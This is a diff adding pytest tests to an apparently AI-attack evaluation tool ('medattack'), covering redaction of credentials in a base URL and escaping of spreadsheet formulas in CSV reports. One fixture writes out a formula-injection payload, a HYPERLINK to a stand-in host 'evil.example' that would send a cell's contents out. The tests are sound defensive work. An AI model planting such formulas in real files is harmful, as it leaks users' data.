@@ -347,3 +347,46 @@ def test_damaged_state_files_and_caches_are_named_with_the_fix(tmp_path):
         result = invoke(*command)
         assert result.exit_code == 2 and "benchmark is gone" in " ".join(result.output.split())
     assert read_jsonl(next((run / "scores").glob("*/scores.jsonl"))) == samples  # nothing moved to stale
+
+
+def test_credentials_in_a_base_url_never_reach_disk_or_the_console(tmp_path):
+    provider = ScriptedProvider([(500, b'{"error": {"message": "down"}}')])
+    try:
+        secret_url = provider.base_url.replace("http://", "http://alice:hunter2@") + "?api_key=sk-query-secret&v=1"
+        run = tmp_path / "run"
+        assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
+        result = invoke("query", run, "--target", "api:m", "--base-url", secret_url, "--limit", "1",
+                        "--set", "target.api.max_retries=0")
+        written = "".join(p.read_text(errors="replace") for p in run.rglob("*") if p.is_file()
+                          and p.suffix in (".json", ".jsonl"))
+        for secret in ("hunter2", "alice", "sk-query-secret"):
+            assert secret not in written and secret not in result.output
+        assert "[REDACTED]@127.0.0.1" in written and "api_key=[REDACTED]" in written and "v=1" in written
+    finally:
+        provider.close()
+
+
+def test_csv_cells_that_start_like_formulas_are_escaped():
+    from medattack.storage import csv_cell
+
+    assert [csv_cell(v) for v in ("=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx")] == [
+        "'=HYPERLINK(\"http://x\")", "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"]
+    assert [csv_cell(v) for v in ("-0.5", "+3", "1e-3", "normal", -0.5, None)] == ["-0.5", "+3", "1e-3", "normal",
+                                                                                   -0.5, None]
+
+
+def test_a_formula_from_the_data_reaches_no_report_csv(tmp_path):
+    run = tmp_path / "run"
+    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
+    assert invoke("query", run, "--target", "tiny", "--limit", "1").exit_code == 0
+    path = next((run / "responses").glob("*/responses.jsonl"))
+    rows = read_jsonl(path)
+    for row in rows:
+        row["modality"] = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
+    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    assert invoke("score", run, "--set", "metrics=[keyword_asr]").exit_code == 0
+    assert invoke("report", run).exit_code == 0
+    cells = [cell for table in (run / "report" / "tables").glob("*.csv")
+             for line in table.read_text().splitlines() for cell in line.split(",")]
+    assert not [c for c in cells if c.lstrip('"').startswith(("=", "@"))]
+    assert any("'=HYPERLINK" in c for c in cells)
